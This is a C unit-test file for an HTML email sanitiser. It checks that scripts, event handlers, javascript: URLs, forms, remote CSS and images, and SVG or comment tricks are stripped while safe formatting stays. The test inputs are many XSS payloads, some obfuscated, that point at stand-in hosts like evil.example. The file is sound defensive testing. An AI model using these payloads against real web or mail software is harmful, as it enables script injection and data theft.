/*
 * test_sanitize.c - the HTML mail sanitiser: everything that could run
 * script, submit data or load remote content is gone; formatting stays.
 */
#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "err.h"
#include "sanitize.h"
#include "util.h"
#include "testutil.h"

/* The sanitised body (what follows our own <head>), malloc'd. */
static char *
clean_opt(const char *html, struct wm_sanitize *opt)
{
	struct wm_buf b;
	struct wm_err err;
	char *body, *s;

	wm_buf_init(&b);
	ck_assert_int_eq(wm_sanitize_html(html, strlen(html), opt, &b, &err), 0);
	body = strstr(b.data, "<body>\n");
	ck_assert_ptr_nonnull(body);
	s = strdup(body + 7);
	wm_buf_free(&b);
	return s;
}

static char *
clean(const char *html)
{
	return clean_opt(html, NULL);
}

#define ck_absent(hay, needle) \
	ck_assert_msg(strcasestr((hay), (needle)) == NULL, \
	    "'%s' found in: %s", (needle), (hay))
#define ck_present(hay, needle) \
	ck_assert_msg(strstr((hay), (needle)) != NULL, \
	    "'%s' missing in: %s", (needle), (hay))

START_TEST(test_script_elements_removed)
{
	char *s = clean("<p>hello</p><script>alert(1)</script>"
	    "<SCRIPT type=\"text/javascript\">alert(2)</SCRIPT>"
	    "<script src=\"http://evil.example/x.js\"></script>");

	ck_present(s, "<p>hello</p>");
	ck_absent(s, "script");
	ck_absent(s, "alert");
	ck_absent(s, "evil");
	free(s);
}
END_TEST

START_TEST(test_event_handlers_removed)
{
	char *s = clean("<div onclick=\"steal()\" onMouseOver='steal()'>t</div>"
	    "<img src=x onerror=alert(1) alt=pic>"
	    "<body onload=alert(1)><p ONFOCUS=alert(1) autofocus tabindex=1>p</p>"
	    "<a href=\"https://ok.example/\" onclick=\"steal()\">a</a>");

	ck_absent(s, "onclick");
	ck_absent(s, "onmouseover");
	ck_absent(s, "onerror");
	ck_absent(s, "onload");
	ck_absent(s, "onfocus");
	ck_absent(s, "steal");
	ck_absent(s, "alert");
	ck_present(s, "<div>t</div>");
	ck_present(s, "alt=\"pic\"");
	free(s);
}
END_TEST

START_TEST(test_javascript_urls_removed)
{
	static const char *const bad[] = {
		"<a href=\"javascript:alert(1)\">x</a>",
		"<a href=\" JaVaScRiPt:alert(1)\">x</a>",
		"<a href=\"java&#09;script:alert(1)\">x</a>",
		"<a href=\"java&#10;script:alert(1)\">x</a>",
		"<a href=\"&#106;avascript:alert(1)\">x</a>",
		"<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
		"<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
		"<a href=\"&#1;javascript:alert(1)\">x</a>",
		"<a href=\"vbscript:msgbox(1)\">x</a>",
		"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
		"<a href=\"file:///etc/passwd\">x</a>",
		"<a href=\"/relative/path\">x</a>",
		"<a href=\"//evil.example/\">x</a>",
	};
	size_t i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		char *s = clean(bad[i]);

		ck_absent(s, "href");
		ck_absent(s, "script");
		ck_absent(s, "data:");
		ck_absent(s, "evil");
		ck_present(s, "<a>x</a>");
		free(s);
	}
}
END_TEST

START_TEST(test_url_rule_matches_browsers)
{
	ck_assert(wm_sanitize_url_ok("https://example.com/"));
	ck_assert(wm_sanitize_url_ok("  HTTP://example.com/ "));
	ck_assert(wm_sanitize_url_ok("mailto:bob@example.com"));
	ck_assert(!wm_sanitize_url_ok("java\tscript:alert(1)"));
	ck_assert(!wm_sanitize_url_ok("\x01javascript:alert(1)"));
	ck_assert(!wm_sanitize_url_ok("https"));
	ck_assert(!wm_sanitize_url_ok("https://exa\nmple.com/"));
	ck_assert(!wm_sanitize_url_ok("data:text/html,x"));
	ck_assert(!wm_sanitize_url_ok(""));
	ck_assert(!wm_sanitize_url_ok(NULL));
}
END_TEST

START_TEST(test_forms_removed)
{
	char *s = clean("<form action=\"https://evil.example/steal\" method=post>"
	    "Password: <input type=password name=p><button>Go</button>"
	    "<textarea>t</textarea><select><option>o</option></select>"
	    "<input type=image src=\"http://evil.example/i.png\"></form>");

	ck_absent(s, "<form");
	ck_absent(s, "<input");
	ck_absent(s, "<button");
	ck_absent(s, "<textarea");
	ck_absent(s, "<select");
	ck_absent(s, "<option");
	ck_absent(s, "action");
	ck_absent(s, "evil");
	ck_present(s, "Password:");
	free(s);
}
END_TEST

START_TEST(test_meta_refresh_and_base_removed)
{
	char *s = clean("<html><head>"
	    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
	    "<base href=\"https://evil.example/\">"
	    "<link rel=stylesheet href=\"https://evil.example/s.css\">"
	    "</head><body><meta http-equiv=refresh content=\"1;url=https://evil.example/\">"
	    "<p>text</p></body></html>");

	ck_absent(s, "<meta");
	ck_absent(s, "refresh");
	ck_absent(s, "<base");
	ck_absent(s, "<link");
	ck_absent(s, "evil");
	ck_present(s, "<p>text</p>");
	free(s);
}
END_TEST

START_TEST(test_css_expression_import_and_url_removed)
{
	char *s = clean("<style>@import url(https://evil.example/a.css);"
	    "body{background:url(https://evil.example/b.png)}</style>"
	    "<div style=\"width: expression(alert(1)); color: red\">a</div>"
	    "<p style=\"background-image: url(https://evil.example/c.png); "
	    "font-weight: bold\">b</p>"
	    "<p style=\"background: url('https://evil.example/d.png')\">c</p>"
	    "<p style=\"behavior: url(x.htc); -moz-binding: url(x.xml)\">d</p>"
	    "<p style=\"color: re\\64\">e</p>"
	    "<p style=\"font-family: 'Arial'; color: rgb(1, 2, 3)\">f</p>"
	    "<p style=\"color: red; @import 'x'\">g</p>"
	    "<p style=\"width: calc(1px + var(--x))\">h</p>");

	ck_absent(s, "expression");
	ck_absent(s, "@import");
	ck_absent(s, "url");
	ck_absent(s, "evil");
	ck_absent(s, "behavior");
	ck_absent(s, "binding");
	ck_absent(s, "\\");
	ck_absent(s, "var(");
	ck_absent(s, "<style");
	ck_present(s, "<div style=\"color: red\">a</div>");
	ck_present(s, "<p style=\"font-weight: bold\">b</p>");
	ck_present(s, "<p>c</p>");
	ck_present(s, "<p style=\"font-family: 'Arial'; color: rgb(1, 2, 3)\">f</p>");
	ck_present(s, "<p style=\"color: red\">g</p>");
	free(s);
}
END_TEST

START_TEST(test_remote_images_blocked_alt_kept)
{
	struct wm_sanitize opt = { 0 };
	char *s = clean_opt("<img src=\"https://tracker.example/pixel.gif\" "
	    "alt=\"Logo\" width=1 height=1>"
	    "<img src=\"//tracker.example/p.gif\">"
	    "<table background=\"http://tracker.example/bg.png\"><tr>"
	    "<td background=\"http://tracker.example/td.png\">x</td></tr></table>"
	    "<img srcset=\"https://tracker.example/2x.png 2x\">"
	    "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">", &opt);

	ck_absent(s, "tracker");
	ck_absent(s, "background");
	ck_absent(s, "srcset");
	ck_absent(s, "svg");
	ck_present(s, "<img alt=\"Logo\" width=\"1\" height=\"1\">");
	ck_assert_int_ge(opt.blocked, 4);
	free(s);
}
END_TEST

START_TEST(test_inline_data_image_kept)
{
	char *s = clean("<img alt=a src=\"data:image/png;base64,iVBORw0K\nGgo=\">");

	ck_present(s, "src=\"data:image/png;base64,iVBORw0KGgo=\"");
	free(s);
}
END_TEST

static char *
cid_to_data(const char *cid, void *arg)
{
	int *calls = arg;

	(*calls)++;
	if (strcmp(cid, "logo@example.com") == 0)
		return strdup("data:image/png;base64,AAAA");
	return NULL;
}

START_TEST(test_cid_images_inlined_by_caller)
{
	int calls = 0;
	struct wm_sanitize opt = { cid_to_data, &calls, 0 };
	char *s = clean_opt("<img src=\"cid:logo@example.com \" alt=l>"
	    "<img src=\" cid:%3Cmissing%40example.com%3E \" alt=m>", &opt);

	ck_assert_int_eq(calls, 2);
	ck_present(s, "<img src=\"data:image/png;base64,AAAA\" alt=\"l\">");
	ck_present(s, "<img alt=\"m\">");
	ck_absent(s, "cid:");
	free(s);
}
END_TEST

START_TEST(test_svg_math_and_embedded_documents_removed)
{
	char *s = clean("<svg onload=alert(1)><circle r=1 /></svg>"
	    "<svg><script>alert(2)</script><a xlink:href=\"javascript:alert(3)\">"
	    "<text>t</text></a></svg>"
	    "<math><mtext><img src=x onerror=alert(4)></mtext></math>"
	    "<iframe src=\"https://evil.example/\"></iframe>"
	    "<object data=\"https://evil.example/o.swf\"></object>"
	    "<embed src=\"https://evil.example/e.swf\">"
	    "<applet code=x></applet><p>after</p>");

	ck_absent(s, "svg");
	ck_absent(s, "math");
	ck_absent(s, "alert");
	ck_absent(s, "iframe");
	ck_absent(s, "object");
	ck_absent(s, "embed");
	ck_absent(s, "evil");
	ck_present(s, "<p>after</p>");
	free(s);
}
END_TEST

START_TEST(test_nested_and_malformed_tags)
{
	static const char *const bad[] = {
		"<scr<script>ipt>alert(1)</scr</script>ipt>",
		"<<script>script>alert(1)<</script>/script>",
		"<p><b><i>x</p></b><script>alert(1)",
		"<a href=\"https://ok.example/\"<script>alert(1)</script>",
		"<img src=\"x\" alt=\"\"><script>alert(1)</script>\">",
		"<div><table><tr><td><script>alert(1)</td></tr></table>",
		"<title><script>alert(1)</script></title>",
		"<textarea><script>alert(1)</script></textarea>",
		"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<xmp><script>alert(1)</script></xmp>",
	};
	size_t i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		char *s = clean(bad[i]);

		ck_absent(s, "<script");
		ck_absent(s, "onerror");
		ck_absent(s, "onclick");
		ck_absent(s, "<img src");
		free(s);
	}
}
END_TEST

START_TEST(test_deep_nesting_does_not_crash)
{
	struct wm_buf in, out;
	struct wm_err err;
	int i;

	wm_buf_init(&in);
	wm_buf_init(&out);
	for (i = 0; i < 100000; i++)
		wm_buf_puts(&in, "<div><b>");
	wm_buf_puts(&in, "deep");
	ck_assert_int_eq(wm_sanitize_html(in.data, in.len, NULL, &out, &err), 0);
	ck_absent(out.data, "<script");
	wm_buf_free(&in);
	wm_buf_free(&out);
}
END_TEST

START_TEST(test_comment_tricks_removed)
{
	static const char *const bad[] = {
		"<!--<script>alert(1)</script>-->ok",
		"<!--[if gte mso 9]><script>alert(1)</script><![endif]-->ok",
		"<!-- --!><script>alert(1)</script> -->ok",
		"<!--><script>alert(1)</script>-->ok",
		"<![CDATA[<script>alert(1)</script>]]>ok",
		"<?xml-stylesheet href=\"https://evil.example/x\"?>ok",
		"<!DOCTYPE html SYSTEM \"https://evil.example/x.dtd\">ok",
	};
	size_t i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		char *s = clean(bad[i]);

		ck_absent(s, "<script");
		ck_absent(s, "<!--");
		ck_absent(s, "evil");
		ck_present(s, "ok");
		free(s);
	}
}
END_TEST

START_TEST(test_safe_formatting_kept)
{
	char *s = clean("<h1>Title</h1><p align=center>Hello <b>bold</b> "
	    "<i>it</i> <u>u</u> <strong>s</strong> <em>e</em><br>"
	    "<font color=\"#ff0000\" face=Arial size=2>f</font></p>"
	    "<ul><li>one</li></ul><ol start=3><li>two</li></ol>"
	    "<blockquote>q</blockquote><pre>  pre</pre><code>c</code><hr>"
	    "<table border=1 cellpadding=2><thead><tr><th>h</th></tr></thead>"
	    "<tbody><tr><td colspan=\"2\" bgcolor=\"#eee\">c</td></tr></tbody></table>"
	    "<center>ce</center><small>sm</small><big>bi</big><sub>1</sub><sup>2</sup>"
	    "<span>sp</span><div>dv</div>"
	    "<a href=\"https://example.com/x?a=1&amp;b=2\" title=t>link</a>"
	    "<a href=\"mailto:bob@example.com\">mail</a> 1 &lt; 2 &amp; &quot;q&quot;");

	ck_present(s, "<h1>Title</h1>");
	ck_present(s, "<p align=\"center\">Hello <b>bold</b> <i>it</i> <u>u</u> "
	    "<strong>s</strong> <em>e</em><br>");
	ck_present(s, "<font color=\"#ff0000\" face=\"Arial\" size=\"2\">f</font>");
	ck_present(s, "<ul><li>one</li></ul><ol start=\"3\"><li>two</li></ol>");
	ck_present(s, "<blockquote>q</blockquote><pre>  pre</pre><code>c</code><hr>");
	ck_present(s, "<td colspan=\"2\" bgcolor=\"#eee\">c</td>");
	ck_present(s, "<thead><tr><th>h</th></tr></thead>");
	ck_present(s, "<center>ce</center><small>sm</small><big>bi</big>"
	    "<sub>1</sub><sup>2</sup><span>sp</span><div>dv</div>");
	ck_present(s, "<a href=\"https://example.com/x?a=1&amp;b=2\" title=\"t\" "
	    "rel=\"noopener noreferrer\" target=\"_blank\">link</a>");
	ck_present(s, "<a href=\"mailto:bob@example.com\" rel=\"noopener noreferrer\" "
	    "target=\"_blank\">mail</a>");
	ck_present(s, "1 &lt; 2 &amp; \"q\"");
	free(s);
}
END_TEST

START_TEST(test_text_stays_text)
{
	char *s = clean("&lt;script&gt;alert(1)&lt;/script&gt; caf\xc3\xa9");

	ck_present(s, "&lt;script&gt;alert(1)&lt;/script&gt; caf\xc3\xa9");
	free(s);
}
END_TEST

START_TEST(test_attribute_values_cannot_break_out)
{
	char *s = clean("<p title='\"><script>alert(1)</script>'>x</p>"
	    "<img alt=\"&quot; onerror=&quot;alert(1)\">");

	ck_absent(s, "<script");
	ck_present(s, "title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\"");
	ck_present(s, "alt=\"&quot; onerror=&quot;alert(1)\"");
	free(s);
}
END_TEST

START_TEST(test_document_is_complete_with_csp)
{
	struct wm_buf b;
	struct wm_err err;

	wm_buf_init(&b);
	ck_assert_int_eq(wm_sanitize_html("", 0, NULL, &b, &err), 0);
	ck_assert(strncmp(b.data, "<!DOCTYPE html>", 15) == 0);
	ck_present(b.data, "<meta charset=\"utf-8\">");
	ck_present(b.data, "Content-Security-Policy");
	ck_present(b.data, "</body></html>");
	wm_buf_free(&b);
	ck_present(wm_sanitize_csp(), "default-src 'none'; img-src data:; "
	    "style-src 'unsafe-inline'");
	ck_absent(wm_sanitize_csp(), "script-src");
	ck_absent(wm_sanitize_iframe_sandbox(), "allow-scripts");
	ck_absent(wm_sanitize_iframe_sandbox(), "allow-same-origin");
}
END_TEST

Suite *
wm_test_suite(void)
{
	Suite *s = suite_create("sanitize");
	TCase *tc = tcase_create("sanitize");

	tcase_add_test(tc, test_script_elements_removed);
	tcase_add_test(tc, test_event_handlers_removed);
	tcase_add_test(tc, test_javascript_urls_removed);
	tcase_add_test(tc, test_url_rule_matches_browsers);
	tcase_add_test(tc, test_forms_removed);
	tcase_add_test(tc, test_meta_refresh_and_base_removed);
	tcase_add_test(tc, test_css_expression_import_and_url_removed);
	tcase_add_test(tc, test_remote_images_blocked_alt_kept);
	tcase_add_test(tc, test_inline_data_image_kept);
	tcase_add_test(tc, test_cid_images_inlined_by_caller);
	tcase_add_test(tc, test_svg_math_and_embedded_documents_removed);
	tcase_add_test(tc, test_nested_and_malformed_tags);
	tcase_add_test(tc, test_deep_nesting_does_not_crash);
	tcase_add_test(tc, test_comment_tricks_removed);
	tcase_add_test(tc, test_safe_formatting_kept);
	tcase_add_test(tc, test_text_stays_text);
	tcase_add_test(tc, test_attribute_values_cannot_break_out);
	tcase_add_test(tc, test_document_is_complete_with_csp);
	suite_add_tcase(s, tc);
	return s;
}
